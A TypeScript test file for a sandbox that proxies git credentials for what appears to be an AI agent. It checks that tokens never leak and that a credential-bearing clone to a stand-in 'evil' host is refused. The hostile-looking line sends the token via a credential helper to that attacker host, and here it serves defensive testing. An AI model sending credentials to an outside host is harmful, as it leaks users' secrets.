import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVIL_HOST, GIT_HOST } from '../../src/quickstart/demo.ts';
import { leaksIn } from '../../src/quickstart/leaks.ts';
import { headerOf } from '../../src/quickstart/service.ts';
import { type Outcome, people, type ServedPlace, withServices } from '../support/powerbox.ts';

const AUTHOR = ['-c user.name=Agent', '-c user.email=agent@acme.example'].join(' ');
const HELPER = `-c credential.helper='!f() { echo username=agent; echo "password=$ACME_TOKEN"; }; f'`;

/** Clones, fetches and pushes; `$URL` is where. */
const WORK = `
set -e
git ${HELPER} clone --quiet "$URL" notes
cd notes
echo "$SUBJECT" >> notes.txt
git ${AUTHOR} commit --quiet --all --message "$SUBJECT"
git ${HELPER} push --quiet origin HEAD:main
git ${HELPER} fetch --quiet origin
git log -1 --format='fetched %s' origin/main
`;

describe.each(people())('as %s, git in a box', (_name, person) => {
  let place: ServedPlace;
  beforeAll(async () => {
    place = await withServices(person);
  });
  afterAll(() => place?.close());

  const run = (subject: string, script: string, url = `https://${GIT_HOST}/notes.git`) =>
    place.box(['sh', '-c', script], [`--env=URL=${url}`, `--env=SUBJECT=${subject}`]);

  it.each([
    ['by the proxy', ''],
    ['without the proxy', 'unset HTTPS_PROXY https_proxy'],
  ])('clones, fetches and pushes with a credential helper, %s', async (how, before) => {
    const subject = `Written ${how}`;
    const outcome = await run(subject, `cd "$HOME"; ${before}\n${WORK}`);
    expectNoToken(place, outcome);
    expect(outcome.stdout).toBe(`fetched ${subject}\n`);
    expect(place.demo.git.subjects()[0]).toBe(subject);
    expect(passwords(place)).toEqual([`agent:${place.demo.token}`]);
  });

  it('pushes a branch with the token in the URL', async () => {
    const url = `https://agent:$ACME_TOKEN@${GIT_HOST}/notes.git`;
    const script = `set -e; cd "$HOME"; git clone --quiet "${url}" notes; cd notes
      git ${AUTHOR} commit --quiet --allow-empty --message Branched
      git push --quiet origin HEAD:refs/heads/by-url; cat .git/config`;
    const outcome = await run('', script);
    expectNoToken(place, outcome);
    expect(outcome.stdout).toContain(`@${GIT_HOST}/notes.git`);
    expect(place.demo.git.subjects('by-url')[0]).toBe('Branched');
  });

  it('clones into the workspace, for the person to use', async () => {
    const outcome = await run('In the workspace', WORK);
    expectNoToken(place, outcome);
    const notes = join(place.workspace, 'notes');
    expect(readFileSync(join(notes, 'notes.txt'), 'utf8')).toContain('In the workspace');
    expect(existsSync(join(notes, '.git/config'))).toBe(true);
    const log = await place.run(['git', '-C', notes, 'log', '-1', '--format=%s']);
    expect(log.stdout).toBe('In the workspace\n');
  });

  it('is refused without the placeholder, and to another host', async () => {
    const foreign =
      '-c credential.helper="!f() { echo username=me; echo password=my-own-key; }; f"';
    const script = `cd "$HOME"; export GIT_TERMINAL_PROMPT=0
      git ${foreign} clone "$URL" a || echo foreign refused
      git ${HELPER} clone "https://${EVIL_HOST}/notes.git" b || echo evil refused`;
    const outcome = await run('', script);
    expect(outcome.stdout).toBe('foreign refused\nevil refused\n');
    expect(outcome.stderr).toContain('403');
    expect(passwords(place)).toEqual([`agent:${place.demo.token}`]);
    expect(place.demo.evil.connections()).toBe(0);
  });
});

describe('without a box, the same git', () => {
  let place: ServedPlace;
  beforeAll(async () => {
    place = await withServices();
    place.write('ca.pem', place.demo.authority.certificate);
  });
  afterAll(() => place?.close());

  it('keeps the token where any program can read it', async () => {
    const { demo, workspace } = place;
    const env = {
      ACME_TOKEN: demo.token,
      GIT_SSL_CAINFO: join(workspace, 'ca.pem'),
      URL: `https://agent:${demo.token}@localhost:${demo.git.port}/notes.git`,
      SUBJECT: 'No box',
    };
    const outcome = await place.run(['sh', '-c', `${WORK}\ncat .git/config`], { env });
    expect(outcome.status, outcome.stderr).toBe(0);
    expect(demo.git.subjects()[0]).toBe('No box');
    expect(leaksIn(outcome.stdout, demo.token)).toContain('plain');
  });
});

function expectNoToken(place: ServedPlace, outcome: Outcome): void {
  expect(outcome.status, outcome.stderr).toBe(0);
  expect(leaksIn(outcome.stdout + outcome.stderr, place.demo.token)).toEqual([]);
}

/** Every user name and password that the git server has received so far, each once. */
function passwords(place: ServedPlace): readonly string[] {
  const values = place.demo.git.requests.flatMap((request) => {
    const encoded = headerOf(request, 'authorization')?.split(' ')[1];
    return encoded === undefined ? [] : [Buffer.from(encoded, 'base64').toString()];
  });
  return [...new Set(values)];
}
